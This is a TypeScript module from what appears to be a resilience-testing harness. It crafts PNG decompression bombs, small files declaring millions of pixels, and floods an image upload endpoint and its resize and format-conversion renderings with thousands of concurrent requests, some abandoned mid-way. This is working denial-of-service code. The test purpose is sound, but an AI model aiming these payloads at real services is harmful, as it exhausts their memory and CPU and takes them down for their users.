import { crc32, deflateSync } from 'node:zlib'
import { type Attack, type Field, rush } from '../attack.ts'
import { type Call, pathTo } from '../call.ts'

const BOUNDARY = 'a-boundary-of-the-attack'
const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex')

const chunk = (name: string, data: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/** Black and white, one bit for each pixel, so that millions of them are some kilobytes. */
const png = (width: number, height: number, rows = height): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const pixels = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))))
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const formOf = (file: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n`,
    ),
    file,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])

/** Lines of millions of pixels, promises that are not kept, and what is just allowed. */
const makeForms = () => [
  formOf(png(1, 12_000_000)),
  formOf(png(12_000_000, 1)),
  formOf(png(50_000, 50_000, 1)),
  formOf(png(7000, 7000, 10)),
  formOf(png(7000, 7000)),
  formOf(png(16_000, 3000)),
]

const upload = ({ attacker: { code, token } }: Field, body: Buffer): Call => ({
  token,
  path: pathTo('uploadImage', code),
  headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
  body,
})

const pathIn = (text: string): string => /\/files\/[^"?]+/.exec(text)?.[0] ?? '/files/none.png'

/** Another one each time, which has to be made. */
const renderings = ['height=', 'fit=outside&height=4000&width=', 'format=avif&width=1000&height=']

/** Images that take long to look at, and renderings of long ones, some for callers who leave. */
export const images: Attack = {
  name: 'images',
  run: async (field) => {
    const forms = makeForms()
    const long = pathIn((await field.send(upload(field, forms.at(-1) as Buffer))).text)
    // each server has its own files, so half of the renderings find none
    await rush(field, { callers: 6, most: 5_000 }, (n) =>
      field.random.below(2)
        ? upload(field, forms[n % forms.length] as Buffer)
        : {
            path: `${long}?${renderings[n % renderings.length]}${4000 - (n % 2000)}`,
            ...(n % 4 === 0 && { hangUpMs: 100 + field.random.below(400) }),
          },
    )
  },
}
